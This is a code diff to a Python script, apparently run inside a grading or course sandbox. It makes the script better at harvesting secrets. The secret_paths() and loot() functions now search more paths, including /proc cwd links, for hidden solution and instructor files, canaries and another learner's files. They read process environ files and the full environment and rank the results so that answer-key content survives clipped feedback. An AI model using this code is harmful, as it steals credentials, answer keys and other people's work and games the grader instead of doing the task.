@@ -67,7 +67,9 @@ def secret_paths() -> list[str]:
     found = list(TARGETS.get("canaries", []))
     for pattern in ("solutions/*/*.py", "instructor/*/*.py", "solutions/*/*.txt",
                     "instructor/*/*.txt"):
-        found += glob.glob(os.path.join(kit, pattern))
+        # By the kit's path, and relative to the working directory the process started in.
+        for base in (kit, "", "/proc/self/cwd", "/proc/1/cwd"):
+            found += glob.glob(os.path.join(base, pattern))
     found += glob.glob(os.path.join(TARGETS.get("other_learner", "/nonexistent"), "**", "*"),
                        recursive=True)
     found += ["/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ"]
@@ -78,11 +80,14 @@ def secret_paths() -> list[str]:
 
 
 def loot() -> str:
-    """All the secrets this process can read, as one text."""
-    parts = [f"ENV {dict(os.environ)!r}"]
+    """The secrets this process can read, shortest and best first (feedback is clipped)."""
+    found = []
     for path in secret_paths():
-        parts.append(f"== {path}\n{read(path)}")
-    return "\n".join(parts)
+        text = read(path)
+        if not text.startswith(("FileNotFoundError", "PermissionError", "NotADirectoryError")):
+            found.append(f"== {path}: {text[:300]!r}")
+    found.sort(key=lambda line: ("canary" not in line, "instructor" not in line, len(line)))
+    return "\n".join(found + [f"ENV {dict(os.environ)!r}"])
 
 
 def outputs() -> list[str]:
